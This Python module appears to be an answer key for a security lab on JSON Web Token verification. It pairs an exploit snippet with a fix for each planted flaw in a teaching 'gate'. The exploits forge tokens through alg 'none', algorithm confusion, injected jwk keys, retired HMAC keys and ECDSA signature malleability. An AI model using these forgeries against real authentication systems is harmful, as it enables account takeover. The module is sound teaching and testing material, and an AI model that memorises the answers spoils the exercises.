"""Answers to exercises 39.3 and 39.4: one raid and one mend for each flaw, from which a learner's five are taken."""

from labs.servers.planted import chosen, places

# ---- raids: by the flaw that they use --------------------------------------------------------------------------

TEST = 'steal(http, loot["mine"]["test"])'
JWK = """
        header, claims = opened(loot["mine"]["hs256"])
        header["jwk"] = {"kty": "oct", "k": "mallory"}
        steal(http, written(header, claims | {"sub": "ana"}, signing(b"mallory")))"""
TWIN = """
        signed, _, signature = loot["anas"]["ended"].rpartition(".")
        r, s = decoded(signature)[:32], int.from_bytes(decoded(signature)[32:], "big")
        steal(http, signed + "." + encoded(r + (ORDER - s).to_bytes(32, "big")))"""

RAIDS = {
    "LastPartCounts": """
        first, second, third = loot["mine"]["es256"].split(".")
        claims = opened(loot["mine"]["es256"])[1] | {"sub": "ana"}
        steal(http, ".".join([first, second, encoded(json.dumps(claims).encode()), third]))""",
    "FollowsJwk": JWK,
    "RetiredKeys": """
        header, claims = opened(loot["mine"]["hs256"])
        for key in loot["keys"]:
            if key["alg"] == "HS256" and key["text"]:
                made = written(header | {"kid": key["kid"]}, claims | {"sub": "ana"}, signing(key["text"].encode()))
                steal(http, made)""",
    "AnyAlg": """
        header, claims = opened(loot["mine"]["es256"])
        pem = next(key["text"] for key in loot["keys"] if key["kid"] == header["kid"])
        steal(http, written(header | {"alg": "HS256"}, claims | {"sub": "ana"}, signing(pem.encode())))""",
    "SpellsNone": """
        header, claims = opened(loot["mine"]["es256"])
        steal(http, written(header | {"alg": "nOnE"}, claims | {"sub": "ana"}, lambda data: b""))""",
    "AnyShare": """
        header, claims = opened(loot["mine"]["hs256"])
        steal(http, written(header, claims | {"sub": "ana"}, lambda data: b""))""",
    "IgnoresCritical": 'steal(http, loot["anas"]["phone"])',
    "AnyExtensionThatIsThere": 'steal(http, loot["anas"]["phone"])',
    "TypesByEnding": 'steal(http, loot["anas"]["id"])',
    "TypesByBan": 'steal(http, loot["anas"]["logout"])',
    "PrefixIssuer": TEST,
    "AnyHost": TEST,
    "AnyNameThatHolds": 'steal(http, loot["anas"]["archive"])',
    "NoAudienceIsFine": 'steal(http, loot["anas"]["early"])',
    "EndsNever": 'steal(http, loot["anas"]["standing"])',
    "LeewayInMinutes": 'steal(http, loot["anas"]["over"])',
    "NamedByText": TWIN,
    "NamedBySignature": TWIN,
    "EndsEarly": 'steal(http, loot["anas"]["late"])',
    "CountsQuarters": 'steal(http, loot["anas"]["long"])',
    "NicknameIsName": 'steal(http, loot["mine"]["nickname"])',
    "NoCase": 'steal(http, loot["mine"]["second"])',
    "RolesInText": 'steal(http, loot["mine"]["fair"])',
    "ClubsAreRoles": 'steal(http, loot["mine"]["club"])',
}

# ---- mends: by place -------------------------------------------------------------------------------------------

MENDS = {
    "split": """
    def split(self, token):
        if token.count(".") != 2:
            raise Refused("A token has three parts.")
        head, body, signature = token.split(".")
        signed = (head + "." + body).encode()
        return self.read(self.decode(head)), self.decode(body), self.decode(signature), signed""",
    "find_key": """
    def find_key(self, header, now):
        for key in self.policy["keys"]:
            if key["kid"] == header.get("kid"):
                if key["until"] is not None and now >= key["until"]:
                    raise Refused("This key is retired.")
                return key
        raise Refused("No key has this name.")""",
    "is_signed": """
    def is_signed(self, header, key, signed, signature):
        if header.get("alg") != key["alg"]:
            return False
        if key["alg"] == "HS256":
            return self.mac_fits(key["text"].encode(), signed, signature)
        return self.ecdsa_fits(key["text"].encode(), signed, signature)""",
    "mac_fits": """
    def mac_fits(self, secret, signed, signature):
        return hmac.compare_digest(hmac.new(secret, signed, "sha256").digest(), signature)""",
    "check_critical": """
    def check_critical(self, header):
        for name in ("crit", "b64"):
            if name in header:
                raise Refused("It asks for something that this gate does not know.")""",
    "check_type": """
    def check_type(self, header):
        if header.get("typ") != self.policy["typ"]:
            raise Refused("It is another kind of token.")""",
    "check_issuer": """
    def check_issuer(self, claims):
        if claims.get("iss") != self.policy["issuer"]:
            raise Refused("It comes from another issuer.")""",
    "check_audience": """
    def check_audience(self, claims):
        ours, aud = self.policy["audience"], claims.get("aud")
        if not (aud == ours or isinstance(aud, list) and ours in aud):
            raise Refused("It is not for us.")""",
    "check_times": """
    def check_times(self, claims, now):
        exp = claims.get("exp")
        if isinstance(exp, bool) or not isinstance(exp, (int, float)) or now >= exp + self.policy["leeway"]:
            raise Refused("It is over, or says no end.")""",
    "name_of": """
    def name_of(self, token, claims):
        if not isinstance(claims.get("jti"), str):
            raise Refused("It has no name.")
        return "ended:" + json.dumps([claims["iss"], claims["jti"]])""",
    "ending": """
    def ending(self, claims, now):
        return {"until": claims["exp"] + self.policy["leeway"]}""",
    "user": """
    def user(self, claims):
        if not isinstance(claims.get("sub"), str):
            raise Refused("It is about nobody.")
        return claims["sub"]""",
    "roles": """
    def roles(self, claims):
        roles = claims.get("roles")
        return [one for one in roles if isinstance(one, str)] if isinstance(roles, list) else []""",
}


def place_of(flaw):
    """The method where a flaw stands."""
    return next(place for place in places("gate") if place in vars(flaw))


def raid(flaws):
    """A GateRaid that has a method for each of these flaws."""
    methods = [
        f"    def {place_of(one)}(self, http, loot):\n        {RAIDS[one.__name__].strip()}\n" for one in flaws
    ]
    return "import json\n\n\nclass GateRaid:\n" + "\n".join(methods)


def gate(where):
    """A MyGate that overrides these places."""
    return "import hmac\nimport json\n\n\nclass MyGate(Gate):\n" + "\n".join(MENDS[place] for place in where) + "\n"


def mine(seed):
    """The five places of a learner's flaws."""
    return [place_of(flaw) for flaw in chosen("gate", seed)]
